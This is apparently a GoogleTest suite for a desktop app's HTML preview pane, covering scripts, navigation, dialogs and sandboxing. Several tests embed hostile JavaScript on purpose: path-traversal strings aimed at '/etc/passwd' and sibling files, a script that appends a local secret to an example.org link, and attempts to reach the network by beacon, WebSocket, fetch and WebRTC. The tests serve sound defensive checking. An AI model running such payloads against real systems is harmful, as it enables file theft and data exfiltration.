#include "ui/preview_pane.hpp"

#include <gtest/gtest.h>

#include <QCheckBox>
#include <QLabel>
#include <QLineEdit>
#include <QNetworkInterface>
#include <QNetworkProxy>
#include <QTcpServer>
#include <QTest>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <filesystem>
#include <string>

#include "platform/text.hpp"
#include "project/project_files.hpp"
#include "support/scratch_folder.hpp"
#include "ui/engine_page.hpp"
#include "ui/modal_script.hpp"
#include "ui/qt_text.hpp"
#include "ui/topic_scheme.hpp"

namespace quorrel::test {
namespace {

struct Preview : testing::Test {
    Preview() {
        pane.Widget()->resize(400, 300);
        pane.Widget()->show();
        pane.belongs = [this](const std::string& path) {
            return LiesBelow(files, path, folder.Windows(project));
        };
        pane.open_external = [this](const QUrl& url) { opened << url.toString(); };
    }
    QString Evaluate(const QString& script) {
        return ValueOf(*pane.View()->page(), script, QWebEngineScript::MainWorld).toString();
    }
    testing::AssertionResult Becomes(const QString& script, const QString& expected) {
        QString is;
        const auto becomes = [&] { return (is = Evaluate(script)) == expected; };
        if (WaitFor(becomes)) return testing::AssertionSuccess();
        return testing::AssertionFailure() << FromQt(script + " is " + is);
    }
    testing::AssertionResult Shows(const QString& text) {
        return Becomes("document.body ? document.body.innerText.trim() : ''", text);
    }
    void Write(const std::string& name, const std::string& body) {
        folder.Write(name, "<html><head></head><body>" + body + "</body></html>");
    }
    void Go(const std::string& name) { pane.Navigate(folder.Windows(name)); }
    void ClickCorner() {
        QTest::mouseClick(pane.View()->focusProxy(), Qt::LeftButton, {}, QPoint(30, 30));
    }
    static std::string Corner(const std::string& attributes, const std::string& text = "x") {
        return "<a style=\"position:fixed;left:0;top:0;width:90px;height:90px\" " + attributes +
               ">" + text + "</a>";
    }

    ScratchFolder folder;
    std::string project;  // the folder that pages may look into
    NativeFileSystem files;
    ModalScript dialogs;
    QStringList opened;
    PreviewPane pane{files};
};

TEST_F(Preview, AWorkingCopyRunsItsScriptsAndFindsWhatLiesBesideIt) {
    pane.GoBack();
    pane.Refresh();
    pane.Stop();
    EXPECT_EQ(pane.View(), nullptr) << "nothing is started before the first topic";
    folder.Write("Pages/side.js", "document.getElementById('p').textContent = 'ran'");
    folder.Write("Pages/side.css", "p { color: rgb(1, 2, 3) }");
    const std::string page = "<html><head><meta charset=\"shift_jis\"><link rel=stylesheet href=";
    folder.Write("Pages/a.htm.tmp.htm", page +
                                            "SIDE.CSS></head><body>\x93\xfa\x96\x7b"
                                            "<p id=p></p><script src=side.js></script></body>");
    Go("pages/a.htm.tmp.htm");
    EXPECT_TRUE(Shows("\u65e5\u672c\n\nran"));
    const QString color = "getComputedStyle(document.getElementById('p')).color";
    EXPECT_TRUE(Becomes(color, "rgb(1, 2, 3)"));

    // What has changed is read again, the files beside the topic too.
    folder.Write("Pages/side.css", "p { color: rgb(2, 2, 2) }");
    Go("pages/a.htm.tmp.htm#p");
    EXPECT_TRUE(Becomes(color, "rgb(2, 2, 2)"));
    folder.Write("Pages/a.htm.tmp.htm", "three");
    pane.Refresh();
    EXPECT_TRUE(Shows("three"));
}

TEST_F(Preview, GoesToBookmarksAndBack) {
    Write("a#1.htm", "first<p style='height:3000px'></p><a name='here b'>end</a>");
    Write("b.htm", "second" + Corner("href='A%231.htm#here%20b'", ""));
    Go("b.htm");
    ASSERT_TRUE(Shows("second"));
    ClickCorner();
    EXPECT_TRUE(Becomes("scrollY > 1000", "true"));
    EXPECT_EQ(Evaluate("document.body.innerText.substr(0, 5)"), "first");
    pane.GoBack();
    EXPECT_TRUE(Shows("second"));
    // A topic that is shown again, and has changed, is one step back only.
    for (const char* text : {"third", "third, better"}) {
        Write("c.htm", text);
        Go("c.htm");
        ASSERT_TRUE(Shows(text));
    }
    pane.GoBack();
    EXPECT_TRUE(Shows("second"));
    Go("a#1.htm");
    EXPECT_TRUE(Becomes("document.body.innerText.substr(0, 5) + scrollY", "first0"));
    Go("a#1.htm#here b");
    EXPECT_TRUE(Becomes("scrollY > 1000", "true"));
}

TEST_F(Preview, AScriptWithoutAnEndHoldsNothingUp) {
    Write("a.htm", "<script>document.title = 'runs'; setTimeout(() => { for (;;); }, 0)</script>");
    Write("b.htm", "<title>second</title>");
    Go("a.htm");
    ASSERT_TRUE(WaitFor([&] { return pane.View()->title() == "runs"; }));
    Go("b.htm");
    EXPECT_TRUE(WaitFor([&] { return pane.View()->title() == "second"; }));
}

TEST_F(Preview, AScriptThatSpeaksOnAndOnCanBeSilenced) {
    Write("a.htm",
          "<p id=p></p><script>const a = [confirm('1 <b>'), prompt('2', 'proposed')];"
          "for (let i = 0; i < 20; ++i) alert('on and on');"
          "document.getElementById('p').textContent = a.join()</script>");
    const auto expect = [this](const QString& text, bool may_suppress) {
        dialogs.Expect("PreviewMessage", [=](QWidget& dialog) {
            EXPECT_EQ(dialog.windowTitle(), "Quorrel");
            EXPECT_EQ(dialog.findChild<QLabel*>("PreviewMessageText")->text(), text);
            auto* suppress = dialog.findChild<QCheckBox*>("PreviewMessageSuppress");
            EXPECT_EQ(suppress->isVisible(), may_suppress);
            if (text == "on and on") suppress->setChecked(true);
            if (text == "2") {
                QTest::keyClicks(dialog.findChild<QLineEdit*>("PreviewMessageAnswer"), "mine");
            }
            QTest::keyClick(&dialog, Qt::Key_Return);
        });
    };
    expect("1 <b>", false);
    expect("2", true);
    expect("on and on", true);
    Go("a.htm");
    EXPECT_TRUE(Shows("true,mine"));
    // Another topic may speak again.
    Write("b.htm", "<script>alert('b')</script>done");
    expect("b", false);
    Go("b.htm");
    EXPECT_TRUE(Shows("done"));
}

TEST_F(Preview, AClickMayOpenAWindowAndAScriptAloneMayNot) {
    Write("small.htm", "<title>small</title>in a window");
    Write("a.htm",
          Corner("href=# onclick=\"window.open('small.htm', 'w', 'width=200,height=150')\"") +
              "<script>window.open('small.htm'); document.title = 'ran'</script>");
    Go("a.htm");
    ASSERT_TRUE(Becomes("document.title", "ran"));
    const auto windows = [&] {
        return pane.Widget()->findChildren<QWebEngineView*>("PreviewWindow");
    };
    EXPECT_TRUE(windows().isEmpty());
    ClickCorner();
    ASSERT_TRUE(WaitFor([&] { return !windows().isEmpty(); }));
    EXPECT_TRUE(WaitFor([&] { return windows().front()->windowTitle() == "small"; }));
    EXPECT_TRUE(windows().front()->isWindow());
}

TEST_F(Preview, WhatCannotBeShownIsSaid) {
    Go("no <b> & none.htm#x");
    EXPECT_TRUE(
        Shows("The file " + ToQt(folder.Native("no <b> & none.htm")) + " cannot be found."));
    Write("frame.htm",
          "<img src=none.png onerror=\"document.title='no picture'\">"
          "<iframe id=f src=none.htm></iframe>");
    Go("frame.htm");
    EXPECT_TRUE(Becomes("document.title", "no picture"));
    EXPECT_TRUE(Becomes("document.getElementById('f').contentDocument.body.innerText",
                        "The file " + ToQt(folder.Native("none.htm")) + " cannot be found."));
    pane.Navigate("https://www.example.org/a?b=c&d#e");
    EXPECT_TRUE(Becomes("document.links[0].href", "https://www.example.org/a?b=c&d#e"));
}

TEST_F(Preview, OnlyTheUsersClickLeadsOut) {
    Write("a.htm", Corner("id=x href='https://www.example.org/?q=1'") +
                       "<a id=m href='mailto:a@b.c'>m</a><p id=p></p><script>"
                       "for (const id of ['x', 'm']) document.getElementById(id).click();"
                       "window.open('https://www.example.org/opened');"
                       "location.href = 'https://www.example.org/gone';"
                       "document.getElementById('x').addEventListener('click', () => {"
                       "for (let i = 0; i < 5; ++i) document.getElementById('m').click(); });"
                       "setTimeout(() => document.getElementById('p').textContent = 'ran', 100)"
                       "</script>");
    Go("a.htm");
    ASSERT_TRUE(Becomes("document.getElementById('p').textContent", "ran"));
    EXPECT_EQ(opened, QStringList());
    ClickCorner();
    EXPECT_TRUE(WaitFor([&] { return !opened.isEmpty(); }));
    EXPECT_EQ(Evaluate("document.getElementById('p').textContent"), "ran");
    EXPECT_EQ(opened.size(), 1) << FromQt(opened.join(' '));
}

TEST_F(Preview, AScriptReadsNothingThatLiesElsewhere) {
    project = "help";
    folder.Write("secret.htm", "<body>secret");
    folder.Write("secret.png", "secret");
    folder.Write("secret", "secret");
    folder.Write("help-me/secret.htm", "secret");
    namespace fs = std::filesystem;
    fs::create_directories(folder.Native("help/sub"));
    fs::create_symlink(folder.Native("secret"), folder.Native("help/link.htm"));
    fs::create_symlink(folder.Native(), folder.Native("help/out"));
    folder.Write("help/own.htm", "<body>own");
    folder.Write("help/a.htm", R"(<body><p id=p></p><script>
const whole = decodeURI(location.pathname.replace(/[^/]*$/, ''));
const ways = ['../secret.htm', '../secret', '%2e%2e/secret', '..%5csecret', '..%2fsecret',
  'sub%5c..%5c..%5csecret', '..\secret.htm', '../help-me/secret.htm', '../HELP-ME/secret.htm',
  'link.htm', 'LINK.HTM', 'out/secret.htm', 'out/help/../secret.htm', whole + '../secret.htm',
  '/z:/etc/passwd', '/Z:/etc/passwd', '/Z:/Z:/etc/passwd', '/etc/passwd', '//etc/passwd',
  '///etc/passwd', '/C:/../etc/passwd', 'file:///etc/passwd', location.protocol +
  '//topic/Z:/etc/passwd', location.protocol + '//x.topic/Z:/etc/passwd', '../secret.png'];
const got = [];
const take = (way, text) => { if (/secret|root:/.test(text)) got.push(way); };
const ask = way => new Promise(end => {
  const request = new XMLHttpRequest();
  request.onloadend = () => end(request.responseText);
  try { request.open('GET', way); request.send(); } catch (e) { end(''); }
});
const frame = way => new Promise(end => {
  const made = document.createElement('iframe');
  made.onload = () => end(made.contentDocument?.body?.innerText ?? '');
  made.src = way;
  document.body.append(made);
});
(async () => {
  for (const way of ways) take('request ' + way, await ask(way));
  for (const way of ways.filter(way => !way.startsWith('file'))) {
    take('frame ' + way, (await frame(way)).replace(/The file .* (belong|found).*/, ''));
  }
  if (!/own/.test(await ask('own.htm')) || !/own/.test(await frame('own.htm'))) got.push('none');
  document.getElementById('p').textContent = 'got: ' + got.join(', ');
})();
</script>)");
    Go("help/a.htm");
    EXPECT_TRUE(Becomes("document.getElementById('p').textContent", "got: "));
    Go("secret.htm");
    EXPECT_TRUE(Shows("The file " + ToQt(folder.Native("secret.htm")) +
                      " does not belong to the project. The preview shows no other files."));
}

TEST_F(Preview, PicturesAndStylesElsewhereAreShownWhereTheTopicNamesThem) {
    project = "help";
    const std::string dot = "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30'></svg>";
    for (const char* name : {"shared/a.svg", "shared/b.svg", "shared/c.svg"}) {
        folder.Write(name, dot);
    }
    folder.Write("shared/s.css", "p{color:rgb(1, 2, 3);background:url(b.svg)}");
    folder.Write("shared/t.htm", "<body>text");
    folder.Write("secret", dot);
    std::filesystem::create_symlink(folder.Native("secret"), folder.Native("shared/link.svg"));
    folder.Write("help/a.htm",
                 "<link rel=stylesheet href=../shared/s.css><body><p id=p>p</p>"
                 "<img id=i src=..\\Shared\\A.svg><img id=l src=../shared/link.svg>"
                 "<iframe id=f src=../shared/t.htm></iframe>");
    Go("help/a.htm");
    const auto is_loaded = [this](const QString& way) {
        Evaluate(
            "size = 'none'; img = new Image(); img.onload = () => size = img.naturalWidth; "
            "img.onerror = () => size = 0; img.src = '" +
            way + "'; 0");
        EXPECT_TRUE(WaitFor([&] { return Evaluate("size") != "none"; })) << FromQt(way);
        return Evaluate("size") == "40";
    };
    EXPECT_TRUE(Becomes("document.getElementById('i').naturalWidth", "40"));
    EXPECT_TRUE(Becomes("getComputedStyle(document.getElementById('p')).color", "rgb(1, 2, 3)"));
    EXPECT_TRUE(Becomes("document.getElementById('f').contentDocument.body.innerText.slice(-22)",
                        " shows no other files."));
    EXPECT_TRUE(is_loaded("../shared/b.svg")) << "a style sheet names its pictures";
    EXPECT_FALSE(is_loaded("../shared/c.svg")) << "nothing names it";
    EXPECT_FALSE(is_loaded("../shared/link.svg")) << "it leads to no picture";
}

/// An address of this machine that a proxy would be asked for, which it is not for the loop back.
QHostAddress OwnAddress() {
    for (const QHostAddress& address : QNetworkInterface::allAddresses()) {
        const bool is_v4 = address.protocol() == QAbstractSocket::IPv4Protocol;
        if (is_v4 && !address.isLoopback() && !address.isLinkLocal()) return address;
    }
    return {};
}

TEST_F(Preview, AnAddressThatAScriptMadeIsAskedFor) {
    folder.Write("secret.txt", "42");
    Write("a.htm", Corner("id=x") +
                       "<iframe id=f src=secret.txt onload=\"document.getElementById('x').href = "
                       "'https://www.example.org/' + this.contentDocument.body.innerText;"
                       "document.title = 'ready'\"></iframe>");
    Go("a.htm");
    for (const bool is_wanted : {false, true}) {
        ASSERT_TRUE(Becomes("document.title", "ready"));
        dialogs.Expect("PreviewMessage", [&](QWidget& dialog) {
            EXPECT_TRUE(dialog.findChild<QLabel*>("PreviewMessageText")
                            ->text()
                            .contains("https://www.example.org/42"));
            QTest::keyClick(&dialog, is_wanted ? Qt::Key_Return : Qt::Key_Escape);
        });
        ClickCorner();
        EXPECT_TRUE(WaitFor([&] { return dialogs.IsDone(); }));
        QCoreApplication::processEvents();
        EXPECT_EQ(opened.isEmpty(), !is_wanted);
    }
}

TEST_F(Preview, AScriptReachesNothing) {
    const QHostAddress own = OwnAddress();
    if (own.isNull()) GTEST_SKIP() << "this machine has no address";
    QTcpServer server;
    server.setProxy(QNetworkProxy::NoProxy);
    ASSERT_TRUE(server.listen(own));
    QUdpSocket socket;
    socket.setProxy(QNetworkProxy::NoProxy);
    ASSERT_TRUE(socket.bind(own));
    std::string page = R"(<p id=p></p><img src="http://HOST/a"><iframe src="http://HOST/b"></iframe>
<iframe id=f></iframe><form id=g action="http://HOST/d" target=_blank></form><script>
new Image().src = 'http://HOST/e';
try { navigator.sendBeacon('http://HOST/g', 'x') } catch (e) {}
try { new WebSocket('ws://HOST/h') } catch (e) {}
try { new EventSource('http://HOST/i') } catch (e) {}
try { new Worker('http://HOST/j') } catch (e) {}
try { document.getElementById('g').submit() } catch (e) {}
const call = (maker) => { try {
  const peer = new maker({iceServers: [{urls: 'stun:ADDRESS:UDP'},
    {urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b'}]});
  peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o));
} catch (e) {} };
call(window.RTCPeerConnection);
call(document.getElementById('f').contentWindow.RTCPeerConnection);
fetch('http://HOST/f').catch(() => 0).then(() =>
  setTimeout(() => document.getElementById('p').textContent = 'done', 1000));
</script>)";
    page = ReplaceAll(page, "HOST", "ADDRESS:" + std::to_string(server.serverPort()));
    page = ReplaceAll(page, "UDP", std::to_string(socket.localPort()));
    Write("a.htm", ReplaceAll(page, "ADDRESS", FromQt(own.toString())));
    Go("a.htm");
    ASSERT_TRUE(Becomes("document.getElementById('p').textContent", "done"));
    EXPECT_FALSE(server.hasPendingConnections());
    EXPECT_FALSE(socket.hasPendingDatagrams());
}

}  // namespace
}  // namespace quorrel::test
